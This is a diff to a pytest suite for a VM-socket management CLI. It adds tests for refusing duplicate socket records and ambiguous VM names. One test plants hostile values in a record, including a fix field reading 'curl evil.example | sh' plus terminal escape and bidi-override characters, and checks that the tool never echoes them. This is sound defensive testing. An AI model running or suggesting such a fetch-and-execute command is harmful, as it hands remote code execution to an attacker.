@@ -278,7 +278,7 @@ def test_a_file_that_is_broken_is_named(host: Machine, tree: Path, text: str) ->
         ),
         (lambda its: its["record"].update(pid=1), "file.record: is of another process"),
         (lambda its: its["record"].update(name="web2"), "file.record: is of another VM"),
-        (lambda its: its["record"].update(cpus="x"), "x"),
+        (lambda its: its["record"].update(cpus="x"), "not a CPU list: 'x'"),
     ],
 )
 def test_what_no_socket_tells_is_refused(
@@ -333,7 +333,6 @@ def test_no_word_of_a_tree_steers_the_terminal_or_the_reader(host: Machine, tree
         **{"state": "dead", "status": 3, "message": EVIL, "why": EVIL, "errno": EVIL[:8]},
         **{"process": None, "owner": 7, "fix": "curl evil.example | sh"},
     }
-    good = (tree / PATH_TOLD / "0.json").read_text()
     change(tree, lambda its: its["answer"].update(vmm=EVIL, by=EVIL, attributes=[EVIL]))
     other = {
         **{"format": 1, "name": "web2", "path": f"/{EVIL}/web2.sock", "owner": None},
@@ -347,7 +346,6 @@ def test_no_word_of_a_tree_steers_the_terminal_or_the_reader(host: Machine, tree
                 assert not {"\x1b", "\u202e"} & set(text)
                 assert "\nweb9" not in text
                 assert "curl" not in text
-    assert "web1" in good
 
 
 def test_whose_socket_it_is_does_not_depend_on_who_looks(host: Machine, tree: Path) -> None:
@@ -356,3 +354,30 @@ def test_whose_socket_it_is_does_not_depend_on_who_looks(host: Machine, tree: Pa
     words = ("doctor", "web1", "-J", "-q", "--sysroot", str(tree))
     assert host.run(*words, uid=1234) == host.run(*words, uid=0)
     assert f"pid/{SUPERVISED}" in host.run(*words, uid=1234).stdout
+
+
+def test_which_vm_a_name_means_does_not_either(host: Machine, tree: Path) -> None:
+    change(tree, lambda its: its.update(owner=1000))
+    other = json.loads((tree / PATH_TOLD / "0.json").read_text())
+    other |= {"owner": 1001, "path": "/run/user/1001/pmuctl/web1.sock"}
+    (tree / PATH_TOLD / "1.json").write_text(json.dumps(other))
+    words = ("vm", "show", "web1", "--sysroot", str(tree))
+    ran = host.run(*words, uid=0)
+    assert ran.status == 2
+    assert "two VMs hold this name" in ran.stderr
+    assert "fix: name it by its process: pid/N\n" in ran.stderr
+    assert [host.run(*words, uid=uid) for uid in (1000, 1001)] == [ran, ran]
+
+
+def test_who_might_move_a_thread_there_is_not_asked(host: Machine, tree: Path) -> None:
+    words = ("affinity", "check", "-o", "BLOCKER", "--sysroot", str(tree))
+    assert host.run(*words, uid=1234) == host.run(*words, uid=0)
+
+
+def test_a_socket_that_is_there_twice_is_refused(host: Machine, tree: Path) -> None:
+    """Which of the two answers was its own is not known."""
+    text = (tree / PATH_TOLD / "0.json").read_text()
+    (tree / PATH_TOLD / "1.json").write_text(text)
+    ran = host.run("vm", "list", "--sysroot", str(tree))
+    assert ran.status == 9
+    assert "stands in another file, too" in ran.stderr
